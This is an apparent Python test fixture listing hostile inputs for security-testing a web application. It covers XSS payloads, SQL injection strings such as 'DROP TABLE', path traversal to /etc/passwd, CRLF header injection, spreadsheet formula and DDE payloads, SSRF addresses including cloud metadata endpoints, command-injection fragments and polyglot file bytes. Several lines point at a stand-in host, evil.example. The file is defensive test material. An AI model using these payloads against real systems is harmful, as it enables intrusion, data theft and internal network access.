# SPDX-License-Identifier: Apache-2.0
"""What somebody hostile would write. Whatever markup one of these would make carries MARK in a name, a class or an address, so that a reader of the page can
tell it from ours."""

MARK = "twx"
RUN = "twxran()"
BREAKS = "\"><b class=twx>"  # out of a value and of an element

# Of one line, for wherever text is kept.
LINES = (
    f"<script>{RUN}</script>", f"\"><b class=twx>", f"'><b id='twx'>", f"<img src=x class=twx onerror={RUN}>", f"\" onfocus={RUN} autofocus class=\"twx", f"' onmouseover='{RUN}' id='twx",
    f"</textarea><p class=twx>", f"</title></head><body class=twx onload={RUN}>", f"</option></select><a href=javascript:{RUN}>twx</a>", f"javascript:{RUN}//", f"<a href=\"javascript:{RUN}\" class=twx>",
    f"jav&#x09;ascript:{RUN}", f"<svg class=twx onload={RUN}>", f"<iframe class=twx srcdoc=\"<script>{RUN}</script>\">", f"<form class=twx action=//evil.example/twx><button>", "<base href=//evil.example/twx/>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\" class=twx>", "<link rel=stylesheet href=//evil.example/twx.css>", "<style>@import '//evil.example/twx';</style>", f"<math><mi//xlink:href=\"data:x,{RUN}\" class=twx>",
    f"--><script>{RUN}</script><!--", f"]]><script>{RUN}</script><![CDATA[", f"<![CDATA[<b class=twx>", "&lt;b class=twx&gt;", "&#60;b class=twx&#62;", "%3Cb%20class=twx%3E", "\\u003cb class=twx\\u003e", "<\u200bb class=twx>",
    "＜script＞twx＜/script＞", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", "#{7*7}", "<%= 7*7 %>", "{% include '/etc/passwd' %}", "__proto__",
    "' OR '1'='1", "'; DROP TABLE report; --", "\" OR 1=1 --", "1) UNION SELECT doc FROM desk_case --", "' || (SELECT key FROM subscription_key) || '", "/**/%' ESCAPE '!", "\\'; SELECT 1; --", "x' AND randomblob(1000000000) --",
    "../../../../etc/passwd", "..%2f..%2fsupport.db", "....//....//keys/identity.key", "/etc/passwd", "C:\\..\\..\\x", "file:///etc/passwd", "a.json.sha512/..", "%00.html", ".hidden",
    "x%0d%0aSet-Cookie: twx=1", "x%0aX-Twx: 1", "x\u2028X-Twx: 1", "x\u0085X-Twx: 1", "\u560d\u560aSet-Cookie: twx=1",
    "\u202egnp.exe twx \u2066\u202e", "рayрal.example twx", "a\u0301\u0301\u0301\u0301\u0301\u0301twx", "\ufefftwx", "\u200f\u061ctwx", "𝐭𝐰𝐱", "\U000e0041twx",
    "=1+1", "=HYPERLINK(\"https://evil.example/twx\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\"=1+1\",\"twx\"", "a,b;c\"d",
    "https://127.0.0.1/twx", "https://[::1]/twx", "https://169.254.169.254/latest/meta-data/twx", "http://2130706433/twx", "https://0x7f.1/twx", "//evil.example/twx", "gopher://127.0.0.1:25/_twx", "data:text/html,<script>twxran()</script>",
    "twx@evil.example>\" Bcc: <b@evil.example", "mailto:twx?bcc=b@evil.example", "%n%n%s%s%p", "-rf", "$(id)", "`id`", "|id", ";id", "nul", "true", "null", "9" * 20, "-1", "0x10", "1e309", "NaN",
)
# Of more lines, or with what no page can show.
BOXES = (
    "x\r\nSet-Cookie: twx=1\r\n\r\n<b class=twx>", "x\nBcc: twx@evil.example\n\ntwx", "x\r\n.\r\nMAIL FROM:<twx@evil.example>\r\n", "\n=1+1\n+1\n@x\n", "x\rX-Twx: 1\rtwx", "<scr\x00ipt class=twx>", "\x00", "\x1b]0;twx\x07\x1b[31m", "\x08\x7ftwx",
    "a\tb\x0bc\x0ctwx", "\n" * 200 + "twx", "- " * 500, "<b class=twx>" * 200, "&" * 1000, "\U0001f468\u200d\U0001f469\u200d\U0001f467twx",
)
# What is no text at all.
BYTES = (b"\xff\xfe<b class=twx>", b"\xc0\xbcb class=twx\xc0\xbe", b"\xed\xa0\x80twx", b"\xf4\x90\x80\x80twx", b"twx\xe2\x82", b"%\xff", b"\x80" * 64)
OVERLONG = tuple("A" * n for n in (5000, 70000))
# Where somebody would like us to connect to, wherever an address is taken. PORT: of one who listens and must hear nothing.
ADDRESSES = tuple(f"https://{host}/twx" for host in (
    "127.0.0.1:PORT", "127.1:PORT", "2130706433:PORT", "0x7f000001:PORT", "0177.0.0.1:PORT", "[::1]:PORT", "[::ffff:127.0.0.1]:PORT", "[::ffff:7f00:1]:PORT", "[64:ff9b::7f00:1]:PORT", "localhost:PORT", "LOCALHOST:PORT", "localhost.:PORT",
    "0.0.0.0:PORT", "[::]:PORT", "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "10.0.0.1", "192.168.0.1", "172.16.0.1", "100.64.0.1", "[fe80::1%25lo]", "[fd00::1]", "224.0.0.1",
    "a@127.0.0.1:PORT", "evil.example@127.0.0.1:PORT", "127.0.0.1:PORT#@evil.example", "127.0.0.1:PORT\\@evil.example", "①②⑦.⓪.⓪.①:PORT", "127。0。0。1:PORT", "rebound.invalid", "localhost:8443", "localhost:443", "ip6-localhost:443",
)) + ("http://127.0.0.1:PORT/twx", "ftp://127.0.0.1:PORT/twx", "file:///etc/passwd", "gopher://127.0.0.1:PORT/_twx", "dict://127.0.0.1:PORT/twx", "unix:/desk.sock", "https:127.0.0.1:PORT", "https:/\\127.0.0.1:PORT", "HTTPS://localhost:8443/twx")

ALL = LINES + BOXES + OVERLONG
# What somebody names a file: it goes into a page, a header, and the disk of whoever keeps it.
FILE_NAMES = ("<img src=x onerror=twxran()>.png", "a\"; filename=\"twx.html", "x\\\"twx.exe", "../../../../etc/passwd", "..\\..\\twx.dll", "/etc/passwd", "C:\\twx.exe", "\\\\evil.example\\twx", "twx\u202egnp.exe", "twx.html", "twx.svg", "twx.pdf",
              "CON", "nul.txt", ".htaccess", ".", "..", "...", " ", "twx ", "twx.", "~", "-rf", "$(id)", "%2e%2e%2ftwx", "%0d%0aSet-Cookie: twx=1", "twx;.html", "UTF-8''twx.html", "\u2028twx", "twx\ufeff.html", "\U0001f468\u200d\U0001f469.png", "A" * 300)
# What he says it is.
FILE_TYPES = ("text/html", "text/html; charset=utf-7", "image/svg+xml", "application/xhtml+xml", "text/javascript", "application/pdf", "multipart/x-mixed-replace", "text/css", "application/x-shockwave-flash", "message/rfc822", "", "x", "text/plain, text/html",
              "image/png; name=\"<b class=twx>\"", "*/*")
# What browsers find in it who look for themselves.
FILE_BYTES = tuple(one.encode() for one in (f"<!DOCTYPE html><html><script>{RUN}</script>", f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{RUN}\"/>", f"<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{RUN}</x:script>",
              f"{RUN}//", f"GIF89a/*<script>{RUN}</script>*/=0;", f"%PDF-1.7\n<script>{RUN}</script>", f"\ufeff<html><script>{RUN}</script>", "From: a\nContent-Type: text/html\n\n<script>twxran()</script>", "root:x:0:0", "")) + (
              f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-".encode(), b"\x89PNG\r\n\x1a\n<script>twxran()</script>", b"MZ\x90\0", b"PK\3\4", bytes(range(256)) * 16, b"\r\n------twBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"receipt\"\r\n\r\ntwx")
SQL = tuple(p for p in LINES if any(word in p for word in ("SELECT", "OR ", "DROP", "ESCAPE", "randomblob")))


def tagged(payload, tag, room):
    """The payload with whose it is, and with markup whatever it is, so that no field is without; within so many characters, a short one where it is too long."""
    for text in (payload + tag + BREAKS, tag + BREAKS, tag + "<b class=twx>", tag + "<i>"):
        if len(text) <= room:
            return text
    return tag[:room]
